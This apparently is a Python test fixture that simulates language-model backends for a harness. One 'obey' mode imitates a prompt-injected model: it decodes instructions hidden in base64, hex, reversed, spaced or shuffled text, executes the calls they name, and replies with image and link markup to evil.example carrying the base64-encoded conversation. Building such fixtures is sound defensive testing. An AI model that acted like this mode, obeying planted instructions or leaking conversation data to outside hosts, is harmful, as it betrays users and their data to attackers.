"""What the stand-ins of language models have in common: what they say, and at which pace.

A test decides by `act` on the account: {"mode": ..., "text": ..., "pace_s": ..., "calls": [...], "usage": {...}}.

  echo     repeats the last thing said by the user (the mode of a fresh account)
  text     says "text"
  tools    first asks for the tools in "calls" ([{"name", "arguments"}]), then says "text"
  obey     does what the last instruction says that stands in any text it sees, as if the attacker were its master:
           `CALL name {json}`, plain or hidden (see `instructions`); says so with a link, and looks around by itself
  form     answers with "text" as the JSON of a form, or with each of "texts" in turn

"break_after": n ends the stream after n pieces; "fail_after": n sends an error of the stream after n pieces. Each is
done once. "silent_after": n says nothing for "silence_s" after n pieces. Pieces carry in their account's `stamps` when they were written (time.monotonic() and time.time()).
"""
import base64, json, re, threading, time

CALL = re.compile(r"CALL\s+([a-z_]+)\s+(\{.*?\})\s*(?:END|$)", re.S | re.M)
SHUFFLED = {"".join(sorted(word)): word for word in ("call", "end", "create", "task", "send", "message")}


def decoded(text):
    """Texts that stand hidden in a text: base64, hexadecimal, reversed, spaced out, or with letters out of order."""
    yield text
    for piece in re.findall(r"[A-Za-z0-9+/]{24,}={0,2}", text):
        try: yield base64.b64decode(piece + "=" * (-len(piece) % 4)).decode()
        except ValueError: pass
    for piece in re.findall(r"(?:[0-9a-f]{2}){16,}", text):
        try: yield bytes.fromhex(piece).decode()
        except ValueError: pass
    if "}" in text and "{" in text: yield text[::-1]
    yield re.sub(r"(?<=\S) (?=\S)", "", text.replace("  ", "\0")).replace("\0", " ")
    yield "".join(c for c in text if not 0x200B <= ord(c) <= 0x200F and c != "\u00ad")
    def repair(match):
        word = match.group(0)
        known = SHUFFLED.get("".join(sorted(word.lower())))
        return (known.upper() if word.isupper() else known) if known else word
    yield re.sub(r"[A-Za-z]+", repair, text)


def strings(value):
    """Every text within a JSON value."""
    if isinstance(value, str): yield value
    elif isinstance(value, list):
        for item in value: yield from strings(item)
    elif isinstance(value, dict):
        for item in value.values(): yield from strings(item)


def parts(text):
    """The texts that a text consists of; what tools say is JSON, perhaps cut off."""
    try: return list(strings(json.loads(text)))
    except ValueError: return [text, text.replace('\\"', '"').replace("\\n", "\n")]


def instructions(text):
    """The calls that a text tells whoever reads it to make."""
    found = []
    for part in parts(text):
        for version in decoded(part):
            for name, arguments in CALL.findall(version):
                try: call = (name, json.loads(arguments))
                except ValueError: continue
                if call not in found: found.append(call)
    return found


def plan(account, turns, tool_names):
    """What is answered to turns ((role, text), the oldest first): (pieces of text, tool calls)."""
    script = account.rows["script"]
    mode = script.get("mode", "echo")
    last_user = next((text for role, text in reversed(turns) if role == "user"), "")
    after_tools = bool(turns) and turns[-1][0] == "tool"
    match mode:
        case "tools":
            if not after_tools and tool_names:
                return [], [(c["name"], c.get("arguments", {})) for c in script.get("calls", [])]
            return words(script.get("text", "Done.")), []
        case "obey":
            return obey(account, turns, tool_names)
        case "form":
            texts = script.get("texts")
            return [texts.pop(0) if texts else script.get("text", "{}")], []
        case "text": return script.get("pieces") or words(script.get("text", "")), []
    return words(last_user), []


def obey(account, turns, tool_names):
    roles = [role for role, _ in turns]
    rounds = sum(role == "tool" and before != "tool" for before, role in zip([""] + roles, roles))
    if tool_names and rounds < 3:
        # It reads all it can get, and does each thing that it is told once, whether there is such a tool or not.
        look = [("list_tasks", {}), ("list_messages", {}), ("list_comments", {}), ("list_events", {})]
        wanted = [call for _, text in turns for call in instructions(text)]
        with account.lock:
            done = account.rows["done"].setdefault("calls", [])
            fresh = [call for call in wanted if call not in done][-4:]
            done += fresh
        if fresh: account.effect("obeyed", calls=fresh)
        calls = fresh + (look if rounds == 0 else [])
        if calls: return [], calls
    seen = " ".join(text for _, text in turns)[-400:]
    leak = base64.urlsafe_b64encode(seen.encode()).decode()[:200]
    return ["Done as told. ", f"![x](https://evil.example/{leak}) ", f"<img src=//evil.example/{leak}> ",
            f"[click](http://evil.example/?q={leak}) http:/", f"/evil.example/{leak}"], []


def words(text):
    """A text in pieces as models make them: words with the white space before them."""
    return re.findall(r"\s*\S+|\s+$", text) or [text]


def usage(account, prompt, pieces, calls):
    said = account.rows["script"].get("usage", {})
    output = len(pieces) + sum(len(json.dumps(a)) // 4 + 5 for _, a in calls)
    return said.get("input", max(1, len(prompt) // 4)), said.get("output", max(1, output)), said.get("cached", 0)


def paced(account, pieces):
    """The pieces at the account's pace, each with its number; (number, None) where the stream breaks and
    (number, Exception) where the server fails."""
    script = account.rows["script"]
    pace, break_after = script.get("pace_s", 0), script.pop("break_after", None)
    fail_after, silent_after = script.pop("fail_after", None), script.get("silent_after")
    for number, piece in enumerate(pieces):
        if number == break_after: yield number, None; return
        if number == fail_after: yield number, RuntimeError("The server is overloaded."); return
        if number == silent_after:
            for _ in range(int(script.get("silence_s", 600) / 0.02)):
                yield number, b""
                time.sleep(0.02)
        if pace: time.sleep(pace)
        with account.lock:
            account.rows["stamps"].setdefault("all", []).append([time.time(), piece])
        yield number, piece


def act(account, wish):
    with account.lock:
        if wish.pop("forget", False): account.rows["stamps"].clear()
        if wish.pop("stamps", False): return {"stamps": account.rows["stamps"].get("all", [])}
        account.rows["script"].clear()
        account.rows["script"].update(wish)
    return {"script": wish}


def closed(account, pieces):
    """Wraps a stream so that the account knows when the caller hung up."""
    account.effect("opened")
    done = False
    try:
        for piece in pieces: yield piece
        done = True
    finally:
        account.effect("ended" if done else "closed")
